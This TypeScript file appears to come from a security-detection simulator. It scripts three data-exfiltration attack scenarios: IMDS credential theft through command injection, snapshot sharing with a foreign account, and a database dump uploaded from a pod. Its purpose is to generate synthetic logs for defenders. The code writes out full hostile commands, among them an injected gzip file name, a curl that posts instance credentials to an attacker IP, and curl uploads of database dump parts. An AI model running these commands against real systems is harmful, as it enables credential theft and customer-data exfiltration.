/**
 * Data exfiltration: customer data leaving through stolen instance credentials (runtime to
 * cloud), through snapshots shared with a foreign account (cloud only), and as a database dump
 * uploaded from inside the cluster (audit and runtime).
 */

import type { Random } from '../../core/random.js';
import { instanceSession } from '../benign/aws.js';
import { child } from '../benign/runtime.js';
import type { AwsPrincipal, Environment, K8sIdentity, Pod } from '../model.js';
import { s3ObjectCall, type ApiCall } from '../records/cloudtrail.js';
import { shimOf, type SimProcess } from '../records/tetragon.js';
import type { AttackScenario } from '../scenario.js';
import { Script } from '../script.js';

const IMDS = '169.254.169.254';
/** The in-cluster address of `kubernetes.default.svc` (what a pod connects to). */
const API_SERVICE_IP = '10.100.0.1';
/** The postgres Service's ClusterIP, as the workloads' peers name it. */
const POSTGRES_SERVICE_IP = '10.100.8.15';

/** aws-cli v2 on an attacker's Mac, one agent per CLI command as the CLI writes it. */
function macCli(command: string): string {
  return `aws-cli/2.18.4 md/awscrt#0.22.0 ua/2.0 os/macos#23.6.0 md/arch#arm64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#source md/prompt#off md/command#${command}`;
}

const CONSOLE_BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0';

function s3Extra(bytesOut: number): Record<string, unknown> {
  return { SignatureVersion: 'SigV4', CipherSuite: 'TLS_AES_128_GCM_SHA256', bytesTransferredIn: 0, bytesTransferredOut: bytesOut, AuthenticationMethod: 'AuthHeader', 'x-amz-id-2': 'Zm9v' };
}

/** ListObjectsV2 as CloudTrail logs it (a data event named ListObjects). */
function listObjects(env: Environment, bucket: string, prefix: string, bytesOut: number, extra: Partial<ApiCall> = {}): ApiCall {
  return {
    source: 's3.amazonaws.com',
    name: 'ListObjects',
    category: 'Data',
    readOnly: true,
    requestParameters: { 'list-type': '2', bucketName: bucket, 'encoding-type': 'url', prefix, Host: `${bucket}.s3.${env.region}.amazonaws.com` },
    additionalEventData: s3Extra(bytesOut),
    resources: [
      { type: 'AWS::S3::Object', ARNPrefix: `arn:aws:s3:::${bucket}/${prefix}` },
      { accountId: env.accountId, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` },
    ],
    ...extra,
  };
}

const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/** `n` characters of base64url (tokens, JWT segments). */
function b64(r: Random, n: number): string {
  let out = '';
  for (let i = 0; i < n; i++) out += B64URL[r.int(0, 63)];
  return out;
}

/** An IMDSv2 session token as the metadata service hands it out. */
function imdsToken(r: Random): string {
  return `AQAEA${b64(r, 51).replaceAll('-', '+').replaceAll('_', '/')}==`;
}

/** The node's instance-role session, its credentials now in someone else's hands. */
function stolenInstanceCredentials(env: Environment, pod: Pod, ip: string, userAgent: string): AwsPrincipal {
  return { ...instanceSession(env, pod.node), sourceIps: [ip], userAgent };
}

/**
 * A command injection in orders-api (the export endpoint hands a file name to `sh -c gzip …`)
 * is used to read the node's instance-role credentials from IMDSv2 and post them out; minutes
 * later they are used from the attacker's laptop to copy the customer exports bucket.
 */
const imdsCredentialTheft: AttackScenario = {
  kind: 'attack',
  id: 'data-exfiltration-imds-credential-theft',
  intent: 'data-exfiltration',
  title: 'Instance credentials stolen from IMDS through a web RCE, then used to download a bucket',
  description:
    "A command injection in orders-api's export endpoint makes the gunicorn worker run `sh -c \"gzip … ; <payload> #\"`. " +
    'The attacker fingerprints the container (id, uname, env: no IRSA credentials), tries IMDSv1 (refused), then takes an IMDSv2 token, ' +
    "lists the node's instance role and pipes its temporary credentials to curl, which POSTs them to a VPS. " +
    'Eight minutes later the same credentials (ec2RoleDelivery 2.0, session named after the instance) are used from another address with aws-cli on macOS: ' +
    'GetCallerIdentity, ListBuckets, a refused ListObjects on acme-backups, then `aws s3 sync` of acme-customer-exports: dozens of GetObject data events of tens of MB each.',
  techniques: ['T1190', 'T1059.004', 'T1082', 'T1552.005', 'T1078.004', 'T1619', 'T1530'],
  durationMs: 18 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const r = ctx.random;
    const env = ctx.env;
    const pod = s.pod('orders-api');
    const main = s.main(pod);
    // The gunicorn worker that serves the request: forked by the master when the pod started.
    const worker = child(ctx.pids, main, main.binary, main.args, pod.startMs + 2_400);
    const c2 = '198.51.100.73';
    const operator = '203.0.113.158';
    const exportName = `/tmp/exports/orders-${r.int(100_000, 999_999)}.csv`;

    /** One injected request: the worker's shell runs gzip on a file that is not there, then the payload. */
    const inject = (t: number, payload: string): SimProcess => {
      const sh = s.exec(worker, t, '/bin/sh', `-c "gzip -9 -c ${exportName}; ${payload} #.csv"`);
      const gz = s.exec(sh, t + 0.004, '/bin/gzip', `-9 -c ${exportName}`);
      s.exit(gz, t + 0.006, 1);
      return sh;
    };
    const run = (sh: SimProcess, t: number, binary: string, args: string, dur = 0.01, status = 0): SimProcess => {
      const p = s.exec(sh, t, binary, args);
      s.exit(p, t + dur, status);
      return p;
    };

    // Fingerprinting.
    let sh = inject(0, 'id; uname -a; cat /etc/os-release');
    run(sh, 0.01, '/usr/bin/id', '');
    run(sh, 0.02, '/bin/uname', '-a');
    const cat = s.exec(sh, 0.03, '/bin/cat', '/etc/os-release');
    s.read(cat, 0.031, '/etc/os-release');
    s.exit(cat, 0.033);
    s.exit(sh, 0.04);

    sh = inject(31, 'env');
    run(sh, 31.01, '/usr/bin/env', '');
    s.exit(sh, 31.02);

    // IMDSv1 first: the node requires tokens, curl gets a 401 and an empty body.
    sh = inject(58, `curl -s -m 3 http://${IMDS}/latest/meta-data/`);
    let curl = s.exec(sh, 58.01, '/usr/bin/curl', `-s -m 3 http://${IMDS}/latest/meta-data/`);
    s.connect(curl, 58.02, IMDS, 80);
    s.exit(curl, 58.03);
    s.exit(sh, 58.04);

    // IMDSv2: a token, then the role name and the instance identity document.
    const token1 = imdsToken(r);
    const tokenCmd = `curl -s -X PUT http://${IMDS}/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'`;
    sh = inject(92, `TOKEN=$(${tokenCmd}); curl -s -H X-aws-ec2-metadata-token:$TOKEN http://${IMDS}/latest/meta-data/iam/security-credentials/; curl -s -H X-aws-ec2-metadata-token:$TOKEN http://${IMDS}/latest/dynamic/instance-identity/document`);
    curl = s.exec(sh, 92.01, '/usr/bin/curl', `-s -X PUT http://${IMDS}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"`);
    s.connect(curl, 92.02, IMDS, 80);
    s.exit(curl, 92.03);
    curl = s.exec(sh, 92.04, '/usr/bin/curl', `-s -H X-aws-ec2-metadata-token:${token1} http://${IMDS}/latest/meta-data/iam/security-credentials/`);
    s.connect(curl, 92.05, IMDS, 80);
    s.exit(curl, 92.06);
    curl = s.exec(sh, 92.07, '/usr/bin/curl', `-s -H X-aws-ec2-metadata-token:${token1} http://${IMDS}/latest/dynamic/instance-identity/document`);
    s.connect(curl, 92.08, IMDS, 80);
    s.exit(curl, 92.09);
    s.exit(sh, 92.1);

    // The role's credentials, piped straight to the attacker's server.
    const token2 = imdsToken(r);
    const credsPath = `/latest/meta-data/iam/security-credentials/${env.nodeRole.name}`;
    sh = inject(141, `TOKEN=$(${tokenCmd}); curl -s -H X-aws-ec2-metadata-token:$TOKEN http://${IMDS}${credsPath} | curl -sk -X POST --data-binary @- https://${c2}/api/v2/telemetry`);
    curl = s.exec(sh, 141.01, '/usr/bin/curl', `-s -X PUT http://${IMDS}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"`);
    s.connect(curl, 141.02, IMDS, 80);
    s.exit(curl, 141.03);
    const get = s.exec(sh, 141.04, '/usr/bin/curl', `-s -H X-aws-ec2-metadata-token:${token2} http://${IMDS}${credsPath}`);
    const post = s.exec(sh, 141.041, '/usr/bin/curl', `-sk -X POST --data-binary @- https://${c2}/api/v2/telemetry`);
    s.connect(get, 141.05, IMDS, 80);
    s.exit(get, 141.06);
    s.connect(post, 141.07, c2, 443);
    s.exit(post, 141.4);
    s.exit(sh, 141.41);

    // Minutes later, from the operator's laptop.
    const stolen = stolenInstanceCredentials(env, pod, operator, macCli('sts.get-caller-identity'));
    let t = 620 + r.int(0, 60);
    s.cloud(stolen, t, { source: 'sts.amazonaws.com', name: 'GetCallerIdentity' });
    t += r.int(20, 45);
    s.cloud(stolen, t, { source: 's3.amazonaws.com', name: 'ListBuckets', userAgent: macCli('s3.ls'), requestParameters: { Host: `s3.${env.region}.amazonaws.com` }, additionalEventData: s3Extra(0) });
    t += r.int(15, 40);
    s.cloud(stolen, t, listObjects(env, 'acme-backups', '', 0, { userAgent: macCli('s3.ls'), errorCode: 'AccessDenied', errorMessage: 'Access Denied' }));
    t += r.int(10, 30);
    s.cloud(stolen, t, listObjects(env, 'acme-finance-reports', '', 0, { userAgent: macCli('s3.ls'), errorCode: 'AccessDenied', errorMessage: 'Access Denied' }));
    t += r.int(10, 25);
    s.cloud(stolen, t, listObjects(env, 'acme-customer-exports', '', 1_812, { userAgent: macCli('s3.ls') }));
    t += r.int(8, 20);
    s.cloud(stolen, t, listObjects(env, 'acme-customer-exports', 'exports/', 48_211, { userAgent: macCli('s3.ls') }));
    // `aws s3 sync s3://acme-customer-exports/exports/ .`: one listing, then ten transfers at a time.
    t += r.int(40, 90);
    const sync = macCli('s3.sync');
    s.cloud(stolen, t, listObjects(env, 'acme-customer-exports', 'exports/', 96_420, { userAgent: sync }));
    const keys: string[] = ['exports/full/customers-full-2026-10-31.parquet', 'exports/full/orders-full-2026-10-31.parquet', 'exports/full/payment-methods-masked-2026-10-31.csv.gz'];
    const days = r.int(14, 24);
    for (let d = 1; d <= days; d++) {
      const day = `2026-10-${String(d).padStart(2, '0')}`;
      keys.push(`exports/daily/${day}/customers.csv.gz`, `exports/daily/${day}/orders.csv.gz`);
    }
    // Each of the CLI's ten workers takes the next key when its download ends (~25 MB/s each).
    const free = Array.from({ length: 10 }, (_, i) => t + 1 + i * 0.05);
    for (const key of keys) {
      const bytes = key.includes('/full/') ? r.int(400_000_000, 1_600_000_000) : r.int(6_000_000, 90_000_000);
      const w = free.indexOf(Math.min(...free));
      const at = free[w] ?? t;
      s.cloud(stolen, at, s3ObjectCall(env, 'GetObject', 'acme-customer-exports', key, bytes, { userAgent: sync }));
      free[w] = at + 0.1 + bytes / (20_000_000 + r.next() * 10_000_000);
    }
    return s.out;
  },
};

/** The RDS snapshots and the postgres volume's snapshot, shared with the attacker's account. */
const snapshotShare: AttackScenario = {
  kind: 'attack',
  id: 'data-exfiltration-snapshot-share',
  intent: 'data-exfiltration',
  title: 'Database and volume snapshots shared with a foreign account from a hijacked console login',
  description:
    'A dormant IAM user left over from a database contractor (console password, no MFA device) signs in to the console from an address never seen before, without MFA. ' +
    'The attacker looks at the RDS instances and their snapshots, takes a fresh manual snapshot of orders-prod (named like a migration check), ' +
    "finds the EBS volume behind the postgres StatefulSet's claim and snapshots it, polls until both are available, then shares the new RDS snapshot and " +
    "the existing payments snapshot (ModifyDBSnapshotAttribute restore) and the EBS snapshot (ModifySnapshotAttribute createVolumePermission) with an outside account, and checks the shares. " +
    'Nothing is downloaded: the foreign account restores the copies on its side.',
  techniques: ['T1078.004', 'T1580', 'T1537'],
  durationMs: 36 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const r = ctx.random;
    const env = ctx.env;
    const attackerIp = '192.0.2.211';
    const foreign = '730164285591';
    const user = 'contractor-dba';
    const who: AwsPrincipal = {
      kind: 'IAMUser', name: user, arn: `arn:aws:iam::${env.accountId}:user/${user}`, principalId: `AIDA${r.alnum(17).toUpperCase()}`,
      // Console sessions sign their calls with temporary keys.
      accessKeyId: `ASIA${r.alnum(16).toUpperCase()}`, sourceIps: [attackerIp], userAgent: 'console.amazonaws.com',
      hours: [0, 24], weekends: true, mfa: false, calls: [], callsPerHour: 0,
    };
    const ec2Console = 'console.ec2.amazonaws.com';
    const [ordersDb = 'orders-prod', paymentsDb = 'payments-prod'] = env.databases;
    const paymentsSnap = env.snapshots.find((n) => n.startsWith(paymentsDb)) ?? `${paymentsDb}-2026-11-01`;
    const newSnap = `${ordersDb}-migration-check-${r.int(10, 99)}`;
    const volumeId = `vol-0${r.hex(16)}`;
    const ebsSnap = `snap-0${r.hex(16)}`;
    const dbArn = (kind: string, id: string) => `arn:aws:rds:${env.region}:${env.accountId}:${kind}:${id}`;

    s.cloud(who, 0, {
      source: 'signin.amazonaws.com', name: 'ConsoleLogin', eventType: 'AwsConsoleSignIn', userAgent: CONSOLE_BROWSER, readOnly: false,
      responseElements: { ConsoleLogin: 'Success' },
      additionalEventData: { LoginTo: 'https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_eu-west-1', MobileVersion: 'No', MFAUsed: 'No' },
    });
    let t = r.int(30, 70);
    s.cloud(who, t, { source: 'rds.amazonaws.com', name: 'DescribeDBInstances', requestParameters: { maxRecords: 100 } });
    t += r.int(15, 40);
    for (const db of [ordersDb, paymentsDb]) {
      s.cloud(who, t, { source: 'rds.amazonaws.com', name: 'DescribeDBSnapshots', requestParameters: { dBInstanceIdentifier: db, includeShared: false, includePublic: false } });
      t += r.int(8, 25);
    }
    t += r.int(40, 120);
    s.cloud(who, t, {
      source: 'rds.amazonaws.com', name: 'CreateDBSnapshot', readOnly: false,
      requestParameters: { dBSnapshotIdentifier: newSnap, dBInstanceIdentifier: ordersDb },
      responseElements: {
        dBSnapshotIdentifier: newSnap, dBInstanceIdentifier: ordersDb, snapshotCreateTime: null, engine: 'postgres', allocatedStorage: 200, status: 'creating', port: 5432,
        availabilityZone: `${env.region}a`, vpcId: `vpc-0${r.hex(16)}`, masterUsername: 'orders_admin', engineVersion: '16.4', licenseModel: 'postgresql-license', snapshotType: 'manual',
        optionGroupName: 'default:postgres-16', percentProgress: 0, storageType: 'gp3', encrypted: false, dBSnapshotArn: dbArn('snapshot', newSnap), iAMDatabaseAuthenticationEnabled: false,
        processorFeatures: [], dbiResourceId: `db-${r.alnum(26).toUpperCase()}`, tagList: [], snapshotTarget: 'region',
      },
    });
    // The postgres StatefulSet's volume, found by the tags the EBS CSI driver sets.
    t += r.int(60, 150);
    s.cloud(who, t, {
      source: 'ec2.amazonaws.com', name: 'DescribeVolumes', userAgent: ec2Console,
      requestParameters: { volumeSet: {}, filterSet: { items: [{ name: 'tag:kubernetes.io/created-for/pvc/name', valueSet: { items: [{ value: 'data-postgres-0' }] } }] } },
    });
    t += r.int(30, 80);
    s.cloud(who, t, {
      source: 'ec2.amazonaws.com', name: 'CreateSnapshot', userAgent: ec2Console, readOnly: false,
      requestParameters: { volumeId, description: 'pre-upgrade copy' },
      responseElements: { requestId: r.uuid(), snapshotId: ebsSnap, volumeId, status: 'pending', startTime: s.at(t), progress: '', ownerId: env.accountId, volumeSize: 100, encrypted: false, description: 'pre-upgrade copy' },
    });
    // Waiting for both to be available, refreshing the console now and then.
    const polls = r.int(4, 7);
    for (let i = 0; i < polls; i++) {
      t += r.int(90, 240);
      s.cloud(who, t, { source: 'rds.amazonaws.com', name: 'DescribeDBSnapshots', requestParameters: { dBSnapshotIdentifier: newSnap } });
      if (i % 2 === 1) s.cloud(who, t + r.int(5, 20), { source: 'ec2.amazonaws.com', name: 'DescribeSnapshots', userAgent: ec2Console, requestParameters: { snapshotSet: { items: [{ snapshotId: ebsSnap }] }, ownersSet: {}, restorableBySet: {} } });
    }
    t += r.int(30, 90);
    for (const snap of [newSnap, paymentsSnap]) {
      s.cloud(who, t, {
        source: 'rds.amazonaws.com', name: 'ModifyDBSnapshotAttribute', readOnly: false,
        requestParameters: { dBSnapshotIdentifier: snap, attributeName: 'restore', valuesToAdd: [foreign] },
        responseElements: { dBSnapshotIdentifier: snap, dBSnapshotAttributes: [{ attributeName: 'restore', attributeValues: [foreign] }] },
      });
      t += r.int(5, 15);
      s.cloud(who, t, { source: 'rds.amazonaws.com', name: 'DescribeDBSnapshotAttributes', requestParameters: { dBSnapshotIdentifier: snap } });
      t += r.int(20, 60);
    }
    s.cloud(who, t, {
      source: 'ec2.amazonaws.com', name: 'ModifySnapshotAttribute', userAgent: ec2Console, readOnly: false,
      requestParameters: { snapshotId: ebsSnap, attributeType: 'CREATE_VOLUME_PERMISSION', createVolumePermission: { add: { items: [{ userId: foreign }] } } },
      responseElements: { requestId: r.uuid(), _return: true },
    });
    t += r.int(5, 20);
    s.cloud(who, t, { source: 'ec2.amazonaws.com', name: 'DescribeSnapshotAttribute', userAgent: ec2Console, requestParameters: { snapshotId: ebsSnap, attributeType: 'CREATE_VOLUME_PERMISSION' } });
    return s.out;
  },
};

/**
 * With a developer's stolen kubeconfig, the attacker execs into orders-api, finds the database
 * credentials, tries the pod's token against the API, dumps the database with the image's own
 * pg_dump, packs and splits it and uploads the parts to a file-drop host.
 */
const dbDumpFromPod: AttackScenario = {
  kind: 'attack',
  id: 'data-exfiltration-db-dump-from-pod',
  intent: 'data-exfiltration',
  title: "Database dumped from an application pod and uploaded to a file-drop host",
  description:
    "dev-carol's kubeconfig, stolen from her laptop, is used from an unknown address with another kubectl build: `auth can-i --list`, pods in shop, a refused look at secrets, " +
    'then `kubectl exec -it` into orders-api. In the shell the attacker reads the environment and settings.py (database URL and password), reads the pod\'s service account token ' +
    'and tries it against the API server with curl (listing secrets in data: 403), then runs the pg_dump the image ships for migrations against the postgres Service, ' +
    'packs the dump with tar/gzip in a hidden /tmp directory, splits it into 95 MB parts and uploads each with `curl --upload-file` to a file-sharing host over HTTPS, removes the files and leaves.',
  techniques: ['T1078.004', 'T1609', 'T1552.001', 'T1528', 'T1613', 'T1213.006', 'T1560.001', 'T1074.001', 'T1567'],
  durationMs: 16 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const r = ctx.random;
    const env = ctx.env;
    const pod = s.pod('orders-api', 1);
    const ns = pod.workload.namespace;
    const carol = env.admins.find((a) => a.username.startsWith('dev-carol')) ?? env.admins[env.admins.length - 1];
    if (carol === undefined) throw new Error('the environment has no developer identity');
    const attackerIp = '198.51.100.186';
    const dropHost = '203.0.113.47';
    const stolen: K8sIdentity = { ...carol, sourceIps: [attackerIp], userAgent: 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625' };
    const podSa: K8sIdentity = {
      username: `system:serviceaccount:${ns}:${pod.workload.serviceAccount}`,
      groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'],
      userAgent: 'curl/7.88.1', sourceIps: [pod.ip], hours: [0, 24], weekends: true,
    };

    // Looking around with the stolen identity.
    s.audit(stolen, 0, { verb: 'create', resource: 'selfsubjectrulesreviews', group: 'authorization.k8s.io' });
    s.audit(stolen, 14, { verb: 'list', resource: 'pods', namespace: ns });
    s.audit(stolen, 27, { verb: 'list', resource: 'secrets', namespace: ns, code: 403 });
    s.audit(stolen, 41, { verb: 'list', resource: 'pods', namespace: 'data', code: 403 });
    s.audit(stolen, 58, { verb: 'get', resource: 'pods', namespace: ns, name: pod.name });
    s.audit(stolen, 59, { verb: 'create', resource: 'pods', namespace: ns, name: pod.name, subresource: 'exec', code: 101, query: `command=bash&container=${pod.workload.container}&stdin=true&stdout=true&tty=true` });
    const runc = s.exec(shimOf(pod), 59.2, '/usr/bin/runc', `--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process${r.int(100_000_000, 999_999_999)} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId}/${r.hex(16)}.pid ${pod.containerId}`, { uid: 0 });
    const bash = s.exec(runc, 59.4, '/bin/bash', '', { pod, uid: pod.workload.uid, cwd: '/app' });
    s.falco(bash, 59.5, { rule: 'Terminal shell in container', fields: { 'evt.type': 'execve', 'proc.tty': 34816, 'evt.arg.flags': 'EXE_LOWER_LAYER' } });

    const cmd = (t: number, binary: string, args: string, files: readonly string[] = [], dur = 0.05): SimProcess => {
      const p = s.exec(bash, t, binary, args);
      files.forEach((f, i) => s.read(p, t + 0.005 * (i + 1), f));
      s.exit(p, t + dur);
      return p;
    };
    cmd(71, '/usr/bin/id', '');
    cmd(78, '/usr/bin/env', '');
    cmd(96, '/bin/ls', '-la /app /app/orders');
    cmd(112, '/bin/cat', '/app/orders/settings.py', ['/app/orders/settings.py']);

    // The pod's own token, tried against the API server.
    const tokenDir = '/run/secrets/kubernetes.io/serviceaccount';
    const tokenFile = `${tokenDir}/..2026_11_01_23_14_07.${r.int(100_000_000, 999_999_999)}/token`;
    cmd(151, '/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token', [tokenFile]);
    const jwt = `eyJhbGciOiJSUzI1NiIsImtpZCI6I${b64(r, 40)}.${b64(r, 420)}.${b64(r, 342)}`;
    const apiCurl = s.exec(bash, 183, '/usr/bin/curl', `-sk -H "Authorization: Bearer ${jwt}" https://kubernetes.default.svc/api/v1/namespaces/data/secrets`);
    const sport = r.int(32768, 60999);
    s.kprobe(apiCurl, 183.02, 'tcp_connect', [{ sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: pod.ip, daddr: API_SERVICE_IP, sport, dport: 443, cookie: String(sport * 7919), state: 'TCP_SYN_SENT' } }], 'network-connect');
    s.falco(apiCurl, 183.03, {
      rule: 'Contact K8S API Server From Container', fields: { 'fd.name': `${pod.ip}:${sport}->${API_SERVICE_IP}:443`, 'fd.lport': sport, 'fd.rport': 443, 'fd.type': 'ipv4', 'fd.l4proto': 'tcp', 'evt.type': 'connect', 'proc.tty': 34816 },
    });
    s.audit(podSa, 183.06, { verb: 'list', resource: 'secrets', namespace: 'data', code: 403 });
    s.exit(apiCurl, 183.1);

    // The dump, with the credentials from settings.py in PGPASSWORD.
    cmd(236, '/usr/bin/which', 'pg_dump psql');
    cmd(249, '/bin/mkdir', '-p /tmp/.cache/.pg');
    const dumpFile = '/tmp/.cache/.pg/o.sql';
    const dump = s.exec(bash, 262, '/usr/bin/pg_dump', `-h postgres.data.svc.cluster.local -U orders -d orders --no-owner --no-privileges -f ${dumpFile}`);
    s.connect(dump, 262.03, POSTGRES_SERVICE_IP, 5432);
    s.open(dump, 262.2, dumpFile, 4);
    const dumpSecs = r.int(70, 130);
    for (let k = 1; k <= 4; k++) s.write(dump, 262.2 + (k * dumpSecs) / 5, dumpFile);
    s.exit(dump, 262.3 + dumpSecs);
    let t = 262 + dumpSecs + r.int(15, 40);
    cmd(t, '/bin/ls', '-la /tmp/.cache/.pg');
    t += r.int(10, 20);
    const archive = '/tmp/.cache/.pg/o.tgz';
    const tar = s.exec(bash, t, '/bin/tar', `czf ${archive} -C /tmp/.cache/.pg o.sql`);
    const gzip = s.exec(tar, t + 0.01, '/bin/gzip', '');
    s.read(tar, t + 0.02, dumpFile);
    s.open(tar, t + 0.03, archive, 3);
    s.write(gzip, t + 5, archive);
    const packSecs = r.int(25, 60);
    s.exit(gzip, t + packSecs);
    s.exit(tar, t + packSecs + 0.01);
    t += packSecs + r.int(8, 20);
    const parts = r.int(2, 4);
    const split = s.exec(bash, t, '/usr/bin/split', `-b 95M ${archive} /tmp/.cache/.pg/p.`);
    s.read(split, t + 0.01, archive);
    const names = Array.from({ length: parts }, (_, i) => `p.a${'abcdefgh'[i] ?? 'z'}`);
    names.forEach((n, i) => s.write(split, t + 0.5 + i, `/tmp/.cache/.pg/${n}`));
    s.exit(split, t + parts + 1);
    t += parts + r.int(10, 25);
    for (const n of names) {
      const up = s.exec(bash, t, '/usr/bin/curl', `-s --upload-file /tmp/.cache/.pg/${n} https://${dropHost}/${r.alnum(6)}/${n}`);
      s.open(up, t + 0.01, `/tmp/.cache/.pg/${n}`, 5);
      s.read(up, t + 0.02, `/tmp/.cache/.pg/${n}`);
      s.connect(up, t + 0.03, dropHost, 443);
      const secs = r.int(25, 70);
      s.exit(up, t + secs);
      t += secs + r.int(3, 12);
    }
    cmd(t + 5, '/bin/rm', '-rf /tmp/.cache/.pg');
    t += r.int(20, 40);
    s.exit(bash, t);
    s.exit(runc, t + 0.05);
    return s.out;
  },
};

export const DATA_EXFILTRATION: readonly AttackScenario[] = [imdsCredentialTheft, snapshotShare, dbDumpFromPod];
